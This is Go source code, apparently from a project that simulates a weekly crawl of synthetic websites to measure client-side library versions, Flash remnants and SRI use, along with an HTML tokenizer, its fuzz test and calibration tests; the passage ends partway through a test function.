// afterTag arms raw-text handling when a raw-text element was opened.
func (z *Tokenizer) afterTag(tok *Token) {
	if tok.Kind == StartTagToken && rawTextElements[tok.Name] {
		z.pendingRaw = tok.Name
	}
}

// indexFoldASCII returns the index of the first occurrence of needle in s
// comparing bytes with ASCII case folding, or -1. needle must already be
// lowercase (tag names are, by construction).
func indexFoldASCII(s, needle string) int {
	if len(needle) == 0 {
		return 0
	}
	for i := 0; i+len(needle) <= len(s); i++ {
		j := 0
		for ; j < len(needle); j++ {
			c := s[i+j]
			if c >= 'A' && c <= 'Z' {
				c += 'a' - 'A'
			}
			if c != needle[j] {
				break
			}
		}
		if j == len(needle) {
			return i
		}
	}
	return -1
}

func isNameChar(c byte) bool {
	return isNameStart(c) || c >= '0' && c <= '9' || c == '-' || c == ':' || c == '_'
}

func isSpace(c byte) bool {
	return c == ' ' || c == '\t' || c == '\n' || c == '\r' || c == '\f'
}

// Tags returns every start or self-closing tag of the document in order.
// End tags, text, and comments are skipped.
func Tags(src string) []Token {
	var out []Token
	z := New(src)
	for {
		tok, ok := z.Next()
		if !ok {
			return out
		}
		if tok.Kind == StartTagToken || tok.Kind == SelfClosingTagToken {
			out = append(out, tok)
		}
	}
}

// Element is a start tag together with the raw text of its body when the
// element is a raw-text element (script, style, ...).
type Element struct {
	Tag  Token
	Body string
}

// Elements returns every start/self-closing tag; for raw-text elements the
// following text body is attached.
func Elements(src string) []Element {
	var out []Element
	z := New(src)
	var pending *Element
	for {
		tok, ok := z.Next()
		if !ok {
			break
		}
		switch tok.Kind {
		case StartTagToken, SelfClosingTagToken:
			out = append(out, Element{Tag: tok})
			if tok.Kind == StartTagToken && rawTextElements[tok.Name] {
				pending = &out[len(out)-1]
			} else {
				pending = nil
			}
		case TextToken:
			if pending != nil {
				pending.Body += tok.Data
			}
		case EndTagToken:
			pending = nil
		}
	}
	return out
}

// ScriptSrcs returns the src attribute of every <script src=...> tag in
// document order. Tags without a src (inline scripts) are skipped; empty
// src values are not.
func ScriptSrcs(src string) []string {
	var out []string
	z := New(src)
	for {
		tok, ok := z.Next()
		if !ok {
			return out
		}
		if tok.Kind != StartTagToken && tok.Kind != SelfClosingTagToken {
			continue
		}
		if tok.Name != "script" {
			continue
		}
		if s, ok := tok.Attr("src"); ok && s != "" {
			out = append(out, s)
		}
	}
}

// Comments returns the data of every comment in the document.
func Comments(src string) []string {
	var out []string
	z := New(src)
	for {
		tok, ok := z.Next()
		if !ok {
			return out
		}
		if tok.Kind == CommentToken {
			out = append(out, tok.Data)
		}
	}
}

// TextContent concatenates all text tokens (including raw-text bodies).
func TextContent(src string) string {
	b := new(strings.Builder)
	z := New(src)
	for {
		tok, ok := z.Next()
		if !ok {
			return b.String()
		}
		if tok.Kind == TextToken {
			b.WriteString(tok.Data)
		}
	}
}
