package htmlx

import (
	"strings"
	"testing"
)

// FuzzTokenize drives the tokenizer over arbitrary byte soup. The
// invariants: Next terminates (bounded by input length), never panics, and
// the convenience extractors built on it (Tags, Elements, Comments,
// TextContent) survive the same input.
func FuzzTokenize(f *testing.F) {
	seeds := []string{
		"",
		"<!DOCTYPE html><html><head><title>t</title></head><body></body></html>",
		`<script src="https://cdnjs.cloudflare.com/ajax/libs/jquery/3.5.1/jquery.min.js" integrity="sha384-xyz" crossorigin="anonymous"></script>`,
		"<!-- generator: WordPress 5.6 -->",
		`<object classid="clsid:D27CDB6E"><param name="AllowScriptAccess" value="always"></object>`,
		"<script>var x = '<div>';</script>",
		"<style>p { color: red }</style>",
		"<p>text < not a tag</p>",
		"<",
		"<!",
		"</",
		"<a href='unterminated",
		"<script>never closed",
		"<div a=1 b = \"2\" c>",
		"<br/><img src=x.png>",
		"<<>><<!---->",
		"\x00\xff<div\x00>",
		strings.Repeat("<div>", 50),
	}
	for _, s := range seeds {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, src string) {
		z := New(src)
		// Every token consumes at least one input byte, so the token count
		// is bounded by len(src); the slack covers the empty-input case.
		limit := len(src) + 4
		n := 0
		for {
			_, ok := z.Next()
			if !ok {
				break
			}
			n++
			if n > limit {
				t.Fatalf("tokenizer did not terminate: %d tokens from %d bytes", n, len(src))
			}
		}
		Tags(src)
		Elements(src)
		Comments(src)
		TextContent(src)
	})
}
