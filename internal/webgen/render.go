package webgen

import (
	"fmt"
	"math/rand"
	"strings"

	"clientres/internal/cdn"
	"clientres/internal/semver"
)

// PageHTML renders the landing page of site index i at week w and returns
// the HTML body and HTTP status. Dead domains return ("", 0) — the web
// server translates that into a connection-level failure. Transient
// failures return a short error body with their status; anti-bot sites
// return the paper's observed "Not allowed" 200-page.
func (e *Ecosystem) PageHTML(i, week int) (string, int) {
	s := e.Sites[i]
	t := s.truth(week)
	switch {
	case t.Status == 0:
		return "", 0
	case t.Status != 200:
		return fmt.Sprintf("<html><body><h1>%d</h1></body></html>", t.Status), t.Status
	case t.EmptyPage:
		return "<html><body>Not allowed to access.</body></html>", 200
	}
	return renderPage(s, t), 200
}

// urlStyle is the site's (stable) choice of internal asset URL shape.
type urlStyle int

const (
	styleFileVersion  urlStyle = iota // /assets/js/jquery-1.12.4.min.js
	stylePathVersion                  // /static/jquery/1.12.4/jquery.min.js
	styleQueryVersion                 // /js/jquery.min.js?v=1.12.4
)

// renderRNG returns the site's stable rendering RNG; every week renders the
// same structural choices so that version changes are the only diffs.
func renderRNG(s *Site) *rand.Rand {
	return rand.New(rand.NewSource(mix(s.seed, 0x12e4de12)))
}

// siteURLStyle resolves the site's internal asset URL shape — the first
// draw of the rendering RNG, shared by renderPage and AssetJS so the
// served body for a src always matches the tag that referenced it.
func siteURLStyle(s *Site) urlStyle {
	return urlStyle(renderRNG(s).Intn(3))
}

func renderPage(s *Site, t PageTruth) string {
	style := siteURLStyle(s)

	b := new(strings.Builder)
	b.Grow(4096)
	b.WriteString("<!DOCTYPE html>\n<html lang=\"en\">\n<head>\n")
	b.WriteString("<meta charset=\"utf-8\">\n")
	fmt.Fprintf(b, "<title>%s — home</title>\n", s.Domain.Name)

	if !t.WordPress.IsZero() {
		fmt.Fprintf(b, "<meta name=\"generator\" content=\"WordPress %s\">\n", t.WordPress)
	}
	if t.UsesFavicon {
		b.WriteString("<link rel=\"shortcut icon\" href=\"/favicon.ico\">\n")
	}
	if t.UsesCSS {
		b.WriteString("<link rel=\"stylesheet\" href=\"/css/site.css\">\n")
		if !t.WordPress.IsZero() {
			b.WriteString("<link rel=\"stylesheet\" href=\"/wp-content/themes/base/style.css\">\n")
		}
	}
	if t.UsesXML {
		fmt.Fprintf(b, "<link rel=\"alternate\" type=\"application/rss+xml\" href=\"https://%s/feed.xml\">\n", s.Domain.Name)
	}
	if t.UsesImportedHTML {
		b.WriteString("<script src=\"/render/loader.php\"></script>\n")
	}

	// Library script tags — or, on bundled pages, the single artifact
	// that replaced them.
	if t.Bundled {
		name, _ := bundleInfo(s, t)
		fmt.Fprintf(b, "<script src=\"/assets/%s\"></script>\n", name)
	} else {
		for _, lib := range t.Libs {
			writeLibScript(b, s, lib, t, style)
		}
	}
	for _, tl := range t.Tail {
		fmt.Fprintf(b, "<script src=\"/vendor/%s/%s/%s.min.js\"></script>\n", tl.Name, tl.Version, tl.Name)
	}
	if s.CustomJS {
		b.WriteString("<script src=\"/js/app.js\"></script>\n")
		b.WriteString("<script>window.__site={ready:function(){return 1<2;}};</script>\n")
	}
	if t.UsesAXD {
		b.WriteString("<script src=\"/WebResource.axd?d=page\"></script>\n")
	}
	b.WriteString("</head>\n<body>\n")

	fmt.Fprintf(b, "<h1>Welcome to %s</h1>\n", s.Domain.Name)
	b.WriteString("<p>Curabitur sit amet sem a ligula egestas facilisis. Vivamus euismod " +
		"condimentum nibh, at dictum justo volutpat vitae. Integer posuere erat a ante " +
		"venenatis dapibus posuere velit aliquet.</p>\n")
	if t.UsesSVG {
		b.WriteString("<svg width=\"32\" height=\"32\"><circle cx=\"16\" cy=\"16\" r=\"14\"/></svg>\n")
	}
	if t.Flash != nil {
		writeFlash(b, t.Flash)
	}
	b.WriteString("<footer><p>Sed ut perspiciatis unde omnis iste natus error sit voluptatem " +
		"accusantium doloremque laudantium.</p></footer>\n")
	b.WriteString("</body>\n</html>\n")
	return b.String()
}

// libSrc computes the src attribute of one library observation. wp is the
// page's WordPress version (zero off-platform). Factored out of
// writeLibScript so AssetJS can resolve the same src back to a body.
func libSrc(lib LibObservation, wp semver.Version, style urlStyle) string {
	switch {
	case lib.External && cdn.IsVersionControl(lib.Host):
		// Version-control hosting carries no version information in the
		// URL — faithfully so; such inclusions are version-blind to the
		// fingerprinter, as they were to Wappalyzer.
		return cdn.VersionControlURL(strings.TrimSuffix(lib.Host, ".github.io"), lib.Slug)
	case lib.External:
		return cdn.URL(lib.Host, lib.Slug, lib.Version.String())
	case !wp.IsZero() && (lib.Slug == "jquery" || lib.Slug == "jquery-migrate"):
		// WordPress core enqueues bundled libraries under wp-includes
		// with a ?ver= cache-buster.
		return fmt.Sprintf("/wp-includes/js/jquery/%s.min.js?ver=%s", cdn.FileBase(lib.Slug), lib.Version)
	default:
		base := cdn.FileBase(lib.Slug)
		switch style {
		case styleFileVersion:
			return fmt.Sprintf("/assets/js/%s-%s.min.js", base, lib.Version)
		case stylePathVersion:
			return fmt.Sprintf("/static/%s/%s/%s.min.js", lib.Slug, lib.Version, base)
		default:
			return fmt.Sprintf("/js/%s.min.js?v=%s", base, lib.Version)
		}
	}
}

// writeLibScript emits the <script> tag for one library observation.
func writeLibScript(b *strings.Builder, s *Site, lib LibObservation, t PageTruth, style urlStyle) {
	src := libSrc(lib, t.WordPress, style)
	b.WriteString("<script src=\"")
	b.WriteString(src)
	b.WriteString("\"")
	if lib.SRI {
		fmt.Fprintf(b, " integrity=\"sha384-%s\"", fakeHash(s.seed, lib.Slug))
		if lib.Crossorigin != "" {
			fmt.Fprintf(b, " crossorigin=\"%s\"", lib.Crossorigin)
		}
	}
	b.WriteString("></script>\n")
}

// writeFlash emits the <object>/<embed> Flash markup including the
// AllowScriptAccess parameter when configured. Invisible embeds — leftovers
// end-users never see — are positioned off-page, exactly the pattern the
// paper found on 7 of 13 top-10K holdouts.
func writeFlash(b *strings.Builder, f *FlashObservation) {
	styleAttr := ""
	if !f.Visible {
		styleAttr = " style=\"position:absolute;left:-9999px;top:-9999px\""
	}
	b.WriteString("<object classid=\"clsid:D27CDB6E-AE6D-11cf-96B8-444553540000\" width=\"468\" height=\"60\"" + styleAttr + ">\n")
	b.WriteString("  <param name=\"movie\" value=\"/media/banner.swf\">\n")
	if f.ScriptAccessParam {
		val := "sameDomain"
		if f.Always {
			val = "always"
		}
		fmt.Fprintf(b, "  <param name=\"allowScriptAccess\" value=\"%s\">\n", val)
	}
	b.WriteString("  <embed src=\"/media/banner.swf\" type=\"application/x-shockwave-flash\"")
	if f.ScriptAccessParam {
		val := "sameDomain"
		if f.Always {
			val = "always"
		}
		fmt.Fprintf(b, " allowscriptaccess=\"%s\"", val)
	}
	b.WriteString(">\n</object>\n")
	if f.ViaSWFObject {
		b.WriteString("<script>swfobject.embedSWF(\"/media/banner.swf\", \"flash-slot\", \"468\", \"60\", \"9.0.0\");</script>\n")
	}
}

// fakeHash derives a stable base64-looking token for integrity attributes.
func fakeHash(seed int64, salt string) string {
	const alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"
	h := uint64(mix(seed, int64(len(salt))))
	for _, c := range salt {
		h = h*1099511628211 + uint64(c)
	}
	var out [43]byte
	for i := range out {
		out[i] = alphabet[h%64]
		h = h*6364136223846793005 + 1442695040888963407
	}
	return string(out[:])
}
