package webgen

import (
	"fmt"
	"strings"
	"sync"
	"testing"
)

// ecoFingerprint folds every page of an ecosystem into one hash — the
// regression pin for "this configuration renders these exact bytes".
func ecoFingerprint(e *Ecosystem) uint64 {
	acc := uint64(14695981039346656037)
	for w := 0; w < e.Cfg.Weeks; w++ {
		for i := range e.Sites {
			html, status := e.PageHTML(i, w)
			acc = acc*1099511628211 + contentHash(html) + uint64(status)
		}
	}
	return acc
}

// TestPlainModeGoldenUnchanged pins the zero-Bundling population byte-for-
// byte: adding the bundler must not move a single byte of the historical
// output, or every seed-pinned downstream result silently shifts. If this
// fails after an intentional generator change, re-derive the constant; if
// it fails after a bundler change, the bundler leaked into plain mode.
func TestPlainModeGoldenUnchanged(t *testing.T) {
	e := New(Config{Domains: 300, Weeks: 12, Seed: 42})
	const want = uint64(0x27beb4fe3e79b2e9)
	if got := ecoFingerprint(e); got != want {
		t.Errorf("plain-mode ecosystem fingerprint = %#x, want %#x", got, want)
	}
}

// TestBundleDeterminism: the same (seed, domains, weeks, bundling) must
// produce byte-identical bundles across independent Ecosystems — including
// when built and rendered concurrently (run under -race by check.sh) — and
// a different seed must produce different bundle bytes.
func TestBundleDeterminism(t *testing.T) {
	cfg := Config{Domains: 150, Weeks: 10, Seed: 5, Bundling: DefaultBundling(1)}
	const goroutines = 4
	hashes := make([]uint64, goroutines)
	var wg sync.WaitGroup
	for g := 0; g < goroutines; g++ {
		wg.Add(1)
		go func(g int) {
			defer wg.Done()
			hashes[g] = ecoFingerprint(New(cfg))
		}(g)
	}
	wg.Wait()
	for g := 1; g < goroutines; g++ {
		if hashes[g] != hashes[0] {
			t.Fatalf("run %d fingerprint %#x != run 0 fingerprint %#x", g, hashes[g], hashes[0])
		}
	}

	// Per-bundle byte identity, not just whole-ecosystem hash equality.
	a, b := New(cfg), New(cfg)
	bundles := 0
	for i := range a.Sites {
		for w := 0; w < cfg.Weeks; w += 3 {
			ta, tb := a.Truth(i, w), b.Truth(i, w)
			if !ta.Bundled {
				continue
			}
			nameA, bodyA := bundleInfo(a.Sites[i], ta)
			nameB, bodyB := bundleInfo(b.Sites[i], tb)
			if nameA != nameB || bodyA != bodyB {
				t.Fatalf("site %d week %d: bundles differ across identical runs", i, w)
			}
			bundles++
		}
	}
	if bundles == 0 {
		t.Fatal("no bundled pages generated at Fraction 1")
	}

	other := cfg
	other.Seed = 6
	if ecoFingerprint(New(other)) == hashes[0] {
		t.Error("different seeds produced identical ecosystems")
	}
}

// TestBundledPageRendering: a bundled page replaces its individual library
// tags with exactly one /assets/bundle.<hash>.js tag, and its truth marks
// every library internal (the bundle is served same-site regardless of
// where the library originally came from).
func TestBundledPageRendering(t *testing.T) {
	e := New(Config{Domains: 200, Weeks: 8, Seed: 9, Bundling: DefaultBundling(1)})
	bundled, plain := 0, 0
	for i := range e.Sites {
		tr := e.Truth(i, 4)
		if !tr.Accessible || tr.EmptyPage {
			continue
		}
		html, status := e.PageHTML(i, 4)
		if status != 200 {
			continue
		}
		if !tr.Bundled {
			plain++
			continue
		}
		bundled++
		name, body := bundleInfo(e.Sites[i], tr)
		tag := fmt.Sprintf(`<script src="/assets/%s"></script>`, name)
		if !strings.Contains(html, tag) {
			t.Fatalf("site %d: bundled page missing its bundle tag %q", i, name)
		}
		if strings.Count(html, "/assets/bundle.") != 1 {
			t.Fatalf("site %d: want exactly one bundle tag, html has %d",
				i, strings.Count(html, "/assets/bundle."))
		}
		for _, lib := range tr.Libs {
			if lib.External || lib.Host != "" || lib.SRI {
				t.Fatalf("site %d: bundled truth still marks %s external/SRI", i, lib.Slug)
			}
			if strings.Contains(html, lib.Slug+"-"+lib.Version.String()) {
				t.Fatalf("site %d: bundled page still references %s by versioned URL", i, lib.Slug)
			}
		}
		if e.Sites[i].Bundle.SourceMap && !strings.Contains(body, "sourceMappingURL=") {
			t.Fatalf("site %d: SourceMap profile without a sourceMappingURL trailer", i)
		}
	}
	if bundled == 0 {
		t.Fatal("no bundled pages at Fraction 1")
	}
	if plain == 0 {
		t.Fatal("no plain pages — static/WordPress sites should never bundle")
	}
}

// TestAssetJSResolvesPageScripts: every same-site script src a rendered
// page references must be resolvable through AssetJS — the contract the
// web server and the crawler's script fetching depend on — and unknown
// paths must not resolve.
func TestAssetJSResolvesPageScripts(t *testing.T) {
	e := New(Config{Domains: 150, Weeks: 6, Seed: 3, Bundling: DefaultBundling(0.5)})
	resolved := 0
	for i := range e.Sites {
		for w := 0; w < e.Cfg.Weeks; w += 2 {
			html, status := e.PageHTML(i, w)
			if status != 200 {
				continue
			}
			for _, src := range scriptSrcsOf(html) {
				if strings.Contains(src, "://") {
					continue // cross-origin: served by the CDN, not this site
				}
				body, ok := e.AssetJS(i, w, src)
				if !ok {
					t.Fatalf("site %d week %d: AssetJS cannot resolve %q", i, w, src)
				}
				if body == "" {
					t.Fatalf("site %d week %d: empty body for %q", i, w, src)
				}
				resolved++
			}
		}
	}
	if resolved == 0 {
		t.Fatal("no same-site scripts resolved")
	}
	if _, ok := e.AssetJS(0, 0, "/assets/nope.js"); ok {
		t.Error("AssetJS resolved a path no page references")
	}
}

// scriptSrcsOf extracts script src attributes without importing htmlx
// (webgen must stay import-free of the detection stack).
func scriptSrcsOf(html string) []string {
	var out []string
	rest := html
	for {
		i := strings.Index(rest, `<script src="`)
		if i < 0 {
			return out
		}
		rest = rest[i+len(`<script src="`):]
		j := strings.IndexByte(rest, '"')
		if j < 0 {
			return out
		}
		out = append(out, rest[:j])
		rest = rest[j:]
	}
}
