// Package webgen generates the synthetic web ecosystem the study crawls.
//
// The paper measured the live Alexa Top-1M weekly for four years; that
// history cannot be re-crawled, so webgen substitutes a deterministic,
// calibrated model: every site gets a profile (platform, update policy,
// library portfolio, Flash usage, SRI hygiene, accessibility), and the
// weekly state of each site resolves to a concrete set of resources whose
// versions move through time exactly the way the paper observed aggregate
// behaviour move — dominant frozen versions, slow manual updaters, and the
// WordPress auto-update fleet that produces the Figure 7 jumps.
//
// Two independent outputs exist for every (site, week): rendered HTML (what
// the crawler fetches and the fingerprint engine parses) and ground truth
// (what the generator knows it put there). The pipeline is validated by
// checking that detection over the former recovers the latter.
package webgen

import (
	"time"

	"clientres/internal/alexa"
)

// StudyWeeks is the number of weekly snapshots of the paper's dataset
// (207 collected minus 6 pruned).
const StudyWeeks = 201

// studyStart is the first crawl Monday (the paper started Mar 2018).
var studyStart = time.Date(2018, time.March, 5, 0, 0, 0, 0, time.UTC)

// WeekDate returns the date of snapshot week w (0-based).
func WeekDate(w int) time.Time { return studyStart.AddDate(0, 0, 7*w) }

// WeekOf returns the snapshot week index containing t, which may be negative
// (before the study) or beyond the last week.
func WeekOf(t time.Time) int {
	return int(t.Sub(studyStart) / (7 * 24 * time.Hour))
}

// Config parameterizes ecosystem generation.
type Config struct {
	// Domains is the number of ranked domains to model. The paper used 1M;
	// analyses here default to a scaled-down population.
	Domains int
	// Weeks is the number of weekly snapshots (default StudyWeeks).
	Weeks int
	// Seed drives all randomness; equal seeds give identical ecosystems.
	Seed int64
	// Bundling parameterizes the seed-driven bundler mode (see bundle.go).
	// The zero value disables it, and a disabled bundler perturbs nothing:
	// bundle profiles draw from their own derived RNG stream, so plain
	// ecosystems render byte-identical with or without this field compiled
	// in (pinned by the golden-hash regression test).
	Bundling Bundling
}

// withDefaults fills zero fields.
func (c Config) withDefaults() Config {
	if c.Domains == 0 {
		c.Domains = 10000
	}
	if c.Weeks == 0 {
		c.Weeks = StudyWeeks
	}
	return c
}

// Ecosystem is a fully-generated population of sites.
type Ecosystem struct {
	Cfg   Config
	List  alexa.List
	Sites []*Site
}

// New generates the ecosystem for cfg. Generation cost is O(Domains); the
// weekly states are resolved lazily per (site, week).
func New(cfg Config) *Ecosystem {
	cfg = cfg.withDefaults()
	list := alexa.Generate(cfg.Domains, cfg.Seed)
	e := &Ecosystem{Cfg: cfg, List: list, Sites: make([]*Site, cfg.Domains)}
	for i := range e.Sites {
		e.Sites[i] = newSite(cfg, list.Domains[i])
	}
	return e
}

// SiteByName returns the site for a domain name.
func (e *Ecosystem) SiteByName(name string) (*Site, bool) {
	for _, s := range e.Sites {
		if s.Domain.Name == name {
			return s, true
		}
	}
	return nil, false
}

// mix folds integers into a well-spread 64-bit seed (splitmix64 finalizer).
func mix(vals ...int64) int64 {
	var h uint64 = 0x9e3779b97f4a7c15
	for _, v := range vals {
		h ^= uint64(v)
		h *= 0xbf58476d1ce4e5b9
		h ^= h >> 27
		h *= 0x94d049bb133111eb
		h ^= h >> 31
	}
	return int64(h)
}
