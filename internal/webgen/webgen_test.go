package webgen

import (
	"strings"
	"testing"
	"time"

	"clientres/internal/semver"
)

func testEco(t *testing.T, n int) *Ecosystem {
	t.Helper()
	return New(Config{Domains: n, Seed: 1})
}

func TestWeekDate(t *testing.T) {
	if got := WeekDate(0); got.Year() != 2018 || got.Month() != time.March {
		t.Errorf("week 0 = %v", got)
	}
	// 201 weeks later lands in early 2022 (the paper's Feb 2022 end).
	end := WeekDate(StudyWeeks - 1)
	if end.Year() != 2022 || end.Month() != time.January {
		t.Errorf("last week = %v, want Jan/Feb 2022", end)
	}
	if WeekOf(WeekDate(57)) != 57 {
		t.Error("WeekOf(WeekDate(w)) != w")
	}
}

func TestDeterminism(t *testing.T) {
	a := New(Config{Domains: 300, Seed: 9})
	b := New(Config{Domains: 300, Seed: 9})
	for i := range a.Sites {
		ta, tb := a.Truth(i, 57), b.Truth(i, 57)
		if len(ta.Libs) != len(tb.Libs) || ta.Status != tb.Status {
			t.Fatalf("site %d differs across identical configs", i)
		}
		ha, _ := a.PageHTML(i, 100)
		hb, _ := b.PageHTML(i, 100)
		if ha != hb {
			t.Fatalf("site %d HTML differs across identical configs", i)
		}
	}
}

func TestRenderStableAcrossWeeks(t *testing.T) {
	// The same site must keep its structural URL style week over week so
	// that version changes are the only diffs.
	e := testEco(t, 50)
	for i := range e.Sites {
		t0 := e.Truth(i, 0)
		t1 := e.Truth(i, 1)
		if !t0.Accessible || !t1.Accessible {
			continue
		}
		h0, _ := e.PageHTML(i, 0)
		h1, _ := e.PageHTML(i, 1)
		// Strip version digits crudely: pages should have the same number
		// of script tags when truth agrees.
		if strings.Count(h0, "<script") != strings.Count(h1, "<script") &&
			len(t0.Libs) == len(t1.Libs) && len(t0.Tail) == len(t1.Tail) {
			t.Errorf("site %d script count changed without truth change", i)
		}
	}
}

func TestUsageCalibration(t *testing.T) {
	e := testEco(t, 6000)
	week := 0
	counts := map[string]int{}
	accessible := 0
	for i := range e.Sites {
		tr := e.Truth(i, week)
		if !tr.Accessible {
			continue
		}
		accessible++
		for _, l := range tr.Libs {
			counts[l.Slug]++
		}
	}
	if accessible == 0 {
		t.Fatal("no accessible sites")
	}
	check := func(slug string, want, tol float64) {
		got := float64(counts[slug]) / float64(accessible)
		if got < want-tol || got > want+tol {
			t.Errorf("%s usage = %.3f, want %.3f ± %.3f", slug, got, want, tol)
		}
	}
	check("jquery", 0.64, 0.05)
	check("bootstrap", 0.215, 0.04)
	check("jquery-ui", 0.122, 0.04)
	check("modernizr", 0.095, 0.03)
	// jQuery-Migrate at week 0: WordPress sites bundling it plus
	// standalone users — near its 20.8 % average.
	check("jquery-migrate", 0.208, 0.06)
}

func TestJavaScriptAndWordPressShares(t *testing.T) {
	e := testEco(t, 6000)
	js, wp, accessible := 0, 0, 0
	for i := range e.Sites {
		tr := e.Truth(i, 10)
		if !tr.Accessible {
			continue
		}
		accessible++
		if tr.HasJS {
			js++
		}
		if !tr.WordPress.IsZero() {
			wp++
		}
	}
	jsFrac := float64(js) / float64(accessible)
	wpFrac := float64(wp) / float64(accessible)
	if jsFrac < 0.90 || jsFrac > 0.985 {
		t.Errorf("JS usage = %.3f, want ~0.947", jsFrac)
	}
	if wpFrac < 0.22 || wpFrac > 0.32 {
		t.Errorf("WordPress share = %.3f, want ~0.269", wpFrac)
	}
}

func TestAccessibilityRate(t *testing.T) {
	e := testEco(t, 4000)
	total, ok := 0, 0
	for _, w := range []int{0, 50, 100, 150, 200} {
		for i := range e.Sites {
			total++
			if e.Truth(i, w).Accessible {
				ok++
			}
		}
	}
	frac := float64(ok) / float64(total)
	// The paper collected on average 78.2 % of the 1M each week.
	if frac < 0.70 || frac > 0.86 {
		t.Errorf("accessible fraction = %.3f, want ~0.78", frac)
	}
}

func TestMigrateDropWindow(t *testing.T) {
	// Figure 3a: jQuery-Migrate usage drops ~10 points between Sep 2020
	// and Dec 2020 (WordPress 5.5 window) and recovers after 5.6.
	e := testEco(t, 6000)
	frac := func(week int) float64 {
		n, acc := 0, 0
		for i := range e.Sites {
			tr := e.Truth(i, week)
			if !tr.Accessible {
				continue
			}
			acc++
			if _, ok := tr.Lib("jquery-migrate"); ok {
				n++
			}
		}
		return float64(n) / float64(acc)
	}
	before := frac(WeekOf(time.Date(2020, 7, 6, 0, 0, 0, 0, time.UTC)))
	during := frac(WeekOf(time.Date(2020, 11, 2, 0, 0, 0, 0, time.UTC)))
	after := frac(WeekOf(time.Date(2021, 3, 1, 0, 0, 0, 0, time.UTC)))
	if before-during < 0.04 {
		t.Errorf("migrate drop too small: before %.3f during %.3f", before, during)
	}
	if after-during < 0.04 {
		t.Errorf("migrate recovery too small: during %.3f after %.3f", during, after)
	}
}

func TestWordPressJQueryJump(t *testing.T) {
	// Figure 7: jQuery 3.5.1 share jumps after Dec 2020 while 1.12.4 falls.
	e := testEco(t, 6000)
	share := func(week int, ver string) float64 {
		v := semver.MustParse(ver)
		n, acc := 0, 0
		for i := range e.Sites {
			tr := e.Truth(i, week)
			if !tr.Accessible {
				continue
			}
			acc++
			if l, ok := tr.Lib("jquery"); ok && l.Version.Equal(v) {
				n++
			}
		}
		return float64(n) / float64(acc)
	}
	wNov20 := WeekOf(time.Date(2020, 11, 2, 0, 0, 0, 0, time.UTC))
	wMar21 := WeekOf(time.Date(2021, 3, 1, 0, 0, 0, 0, time.UTC))
	if jump := share(wMar21, "3.5.1") - share(wNov20, "3.5.1"); jump < 0.05 {
		t.Errorf("3.5.1 jump = %.3f, want ≥ 0.05", jump)
	}
	if drop := share(wNov20, "1.12.4") - share(wMar21, "1.12.4"); drop < 0.05 {
		t.Errorf("1.12.4 drop = %.3f, want ≥ 0.05", drop)
	}
	// 1.12.4 is dominant early in the study.
	if s := share(10, "1.12.4"); s < 0.10 {
		t.Errorf("early 1.12.4 share = %.3f, want ≥ 0.10", s)
	}
}

func TestVersionsNeverDowngrade(t *testing.T) {
	e := testEco(t, 400)
	for i := range e.Sites {
		site := e.Sites[i]
		regressing := map[string]bool{}
		for _, use := range site.Libs {
			if use.Regress {
				regressing[use.Slug] = true
			}
		}
		prev := map[string]semver.Version{}
		for w := 0; w < e.Cfg.Weeks; w += 13 {
			tr := e.Truth(i, w)
			if !tr.Accessible {
				continue
			}
			for _, l := range tr.Libs {
				if l.Slug == "jquery-migrate" {
					continue // WP 5.5→5.6 legitimately swaps 1.4.1→(gone)→3.3.2
				}
				if regressing[l.Slug] {
					continue // roll-back behaviour is deliberate (Section 9)
				}
				if p, ok := prev[l.Slug]; ok && l.Version.Less(p) {
					t.Errorf("site %d %s downgraded %s -> %s at week %d",
						i, l.Slug, p, l.Version, w)
				}
				prev[l.Slug] = l.Version
			}
		}
	}
}

func TestRegressionsOccurAndRevert(t *testing.T) {
	e := testEco(t, 6000)
	observedRollback := 0
	for i := range e.Sites {
		site := e.Sites[i]
		for _, use := range site.Libs {
			if !use.Regress || use.ManagedByWP {
				continue
			}
			// Scan weekly for a downgrade followed by a re-upgrade.
			var prev semver.Version
			downAt, upAfter := -1, -1
			for w := 0; w < e.Cfg.Weeks; w++ {
				tr := e.Truth(i, w)
				if !tr.Accessible {
					continue
				}
				l, ok := tr.Lib(use.Slug)
				if !ok {
					continue
				}
				if !prev.IsZero() && l.Version.Less(prev) && downAt < 0 {
					downAt = w
				}
				if downAt >= 0 && prev.Less(l.Version) {
					upAfter = w
				}
				prev = l.Version
			}
			if downAt >= 0 {
				observedRollback++
				if upAfter < 0 {
					// Re-update may fall past the study end; allowed.
					continue
				}
				if upAfter <= downAt {
					t.Errorf("site %d %s: re-update at %d not after rollback at %d",
						i, use.Slug, upAfter, downAt)
				}
			}
		}
	}
	if observedRollback == 0 {
		t.Error("no regression rollbacks observed in a 6000-site population")
	}
}

func TestFlashDecline(t *testing.T) {
	e := testEco(t, 20000)
	count := func(week int) int {
		n := 0
		for i := range e.Sites {
			tr := e.Truth(i, week)
			if tr.Accessible && tr.Flash != nil {
				n++
			}
		}
		return n
	}
	start := count(0)
	eol := count(WeekOf(time.Date(2020, 12, 28, 0, 0, 0, 0, time.UTC)))
	end := count(StudyWeeks - 1)
	if start == 0 {
		t.Fatal("no Flash sites at start")
	}
	// Figure 8: 9,880 → 4,218 → 3,195 of 1M, i.e. ratios ~0.43 and ~0.32.
	eolRatio := float64(eol) / float64(start)
	endRatio := float64(end) / float64(start)
	if eolRatio < 0.30 || eolRatio > 0.60 {
		t.Errorf("Flash EOL ratio = %.2f (start %d, eol %d), want ~0.43", eolRatio, start, eol)
	}
	if endRatio < 0.20 || endRatio > 0.50 {
		t.Errorf("Flash end ratio = %.2f, want ~0.32", endRatio)
	}
	if endRatio >= eolRatio+0.05 {
		t.Error("Flash usage should not grow after EOL")
	}
}

func TestRenderedPageContainsDeclaredResources(t *testing.T) {
	e := testEco(t, 200)
	for i := range e.Sites {
		tr := e.Truth(i, 30)
		if !tr.Accessible {
			continue
		}
		html, status := e.PageHTML(i, 30)
		if status != 200 {
			t.Fatalf("site %d accessible but status %d", i, status)
		}
		if len(html) < 400 {
			t.Errorf("site %d page only %d bytes (under the paper's empty threshold)", i, len(html))
		}
		for _, l := range tr.Libs {
			if l.External {
				if !strings.Contains(html, l.Host) {
					t.Errorf("site %d: external %s host %s missing from HTML", i, l.Slug, l.Host)
				}
				continue
			}
			if !strings.Contains(html, l.Version.String()) {
				t.Errorf("site %d: internal %s version %s missing from HTML", i, l.Slug, l.Version)
			}
		}
		if tr.Flash != nil && !strings.Contains(html, ".swf") {
